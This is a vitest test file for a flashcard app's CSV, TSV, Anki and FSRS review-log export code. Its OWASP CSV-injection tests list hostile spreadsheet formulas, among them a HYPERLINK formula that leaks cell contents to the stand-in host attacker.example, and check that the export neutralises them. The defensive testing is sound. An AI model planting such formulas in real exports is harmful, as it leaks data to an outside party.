import { describe, expect, it } from 'vitest';
import {
  ankiHeader,
  ankiRow,
  cardFields,
  delimitedField,
  delimitedRow,
  type ExportCard,
  reviewFields,
  spreadsheetSafe,
  spreadsheetText,
} from '../../../../src/features/library/export-format.ts';

const card: ExportCard = {
  cardId: '7c9e6679-7425-40de-944b-e07fc1f90ae7',
  text: 'say "cheese"',
  correctedText: null,
  translation: 'dis « ouistiti »',
  guidance: 'For photos.\tCasual.',
  examples: ['Everyone, say "cheese"!', 'שלום 😀'],
  focuses: [{ kind: 'meaning', note: 'smile' }],
  createdAt: new Date('2026-01-02T03:04:05.006Z'),
  due: null,
  reps: null,
  lapses: null,
  stability: null,
};

describe('RFC 4180 fields', () => {
  it('quotes a field with the separator, a quote, CR or LF, doubling its quotes', () => {
    expect(delimitedField('plain', ',')).toBe('plain');
    expect(delimitedField('a,b', ',')).toBe('"a,b"');
    expect(delimitedField('a,b', '\t')).toBe('a,b');
    expect(delimitedField('a\tb', '\t')).toBe('"a\tb"');
    expect(delimitedField('say "hi"', ',')).toBe('"say ""hi"""');
    expect(delimitedField('one\ntwo', ',')).toBe('"one\ntwo"');
    expect(delimitedField('one\rtwo', '\t')).toBe('"one\rtwo"');
    expect(delimitedField('😀 שלום', ',')).toBe('😀 שלום');
  });
  it('ends each record with CRLF', () => {
    expect(delimitedRow(['a', 'b,c'], ',')).toBe('a,"b,c"\r\n');
  });
  it('lays a card out in the documented columns', () => {
    expect(cardFields(card)).toEqual([
      card.cardId,
      'say "cheese"',
      '',
      'dis « ouistiti »',
      'For photos.\tCasual.',
      'Everyone, say "cheese"!\nשלום 😀',
      'meaning: smile',
      '2026-01-02T03:04:05.006Z',
      '',
      '',
      '',
      '',
    ]);
  });
});

describe('cells a spreadsheet would evaluate (OWASP CSV injection)', () => {
  const HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A2,"open")',
    '+SUM(1,1)',
    '-2+3',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '＋SUM(1,1)',
    '－2+3',
    '＠SUM(1+1)',
    "'=1+1",
    "''+1",
  ];
  it('starts every such cell with an apostrophe, so it is shown as text', () => {
    for (const cell of HOSTILE) expect(spreadsheetSafe(cell)).toBe(`'${cell}`);
  });
  it('leaves every other cell as it is, an apostrophe in front included', () => {
    for (const cell of ["'til the end", "'", 'a=b', ' x', 'say "cheese"', '', '2026-01-02T03:04:05.006Z', '5']) expect(spreadsheetSafe(cell)).toBe(cell);
  });
  it('is undone exactly by dropping the apostrophe from a cell that has it before a trigger', () => {
    for (const cell of [...HOSTILE, "'til", "'", "''", "'x'", 'plain']) expect(spreadsheetText(spreadsheetSafe(cell))).toBe(cell);
  });
  it('applies to every field of a CSV/TSV row, after which RFC 4180 quoting still holds', () => {
    expect(delimitedRow(['=HYPERLINK("http://attacker.example/?leak="&A2,"open")', '+SUM(1,1)', '@SUM(1+1)'], ',')).toBe(
      `"'=HYPERLINK(""http://attacker.example/?leak=""&A2,""open"")","'+SUM(1,1)",'@SUM(1+1)\r\n`,
    );
    expect(delimitedRow(['\t=1', 'ok'], '\t')).toBe(`"'\t=1"\tok\r\n`);
  });
  it('leaves the Anki file alone: its fields are HTML, which Anki does not evaluate', () => {
    expect(ankiRow({ ...card, translation: '=1+1', text: '@SUM(1+1)' })).toContain('\t=1+1\t<b>@SUM(1+1)</b>');
  });
});

describe('Anki import text', () => {
  it('starts with the header lines Anki reads', () => {
    expect(ankiHeader().split('\n')).toEqual([
      '#separator:tab',
      '#html:true',
      '#notetype:Basic',
      '#deck:Language Capture',
      '#columns:guid\tFront\tBack',
      '#guid column:1',
      '',
    ]);
  });
  it('puts the translation in front and the English with usage and examples on the back, escaped as HTML on one line', () => {
    const row = ankiRow(card)!;
    expect(row.endsWith('\n')).toBe(true);
    const fields = row.slice(0, -1).split('\t');
    expect(fields).toEqual([
      card.cardId,
      'dis « ouistiti »',
      '<b>say &quot;cheese&quot;</b><br>For photos. Casual.<br><ul><li>Everyone, say &quot;cheese&quot;!</li><li>שלום 😀</li></ul>',
    ]);
    expect(ankiRow({ ...card, correctedText: 'say <cheese>' })).toContain('<b>say &lt;cheese&gt;</b>');
  });
  it('leaves out a card that is not prepared yet', () => {
    expect(ankiRow({ ...card, translation: null })).toBeNull();
  });
});

describe('review log for FSRS optimizers', () => {
  it('gives the time in ms, the rating 1..4 and the state 0..3', () => {
    expect(reviewFields({ cardId: 'c', reviewedAt: new Date(1_700_000_000_123), rating: 'hard', state: 'relearning', durationMs: null })).toEqual([
      'c',
      '1700000000123',
      '2',
      '3',
      '0',
    ]);
    expect(reviewFields({ cardId: 'c', reviewedAt: new Date(1_700_000_000_123), rating: 'good', state: 'review', durationMs: 5400 })).toEqual([
      'c',
      '1700000000123',
      '3',
      '2',
      '5400',
    ]);
  });
});
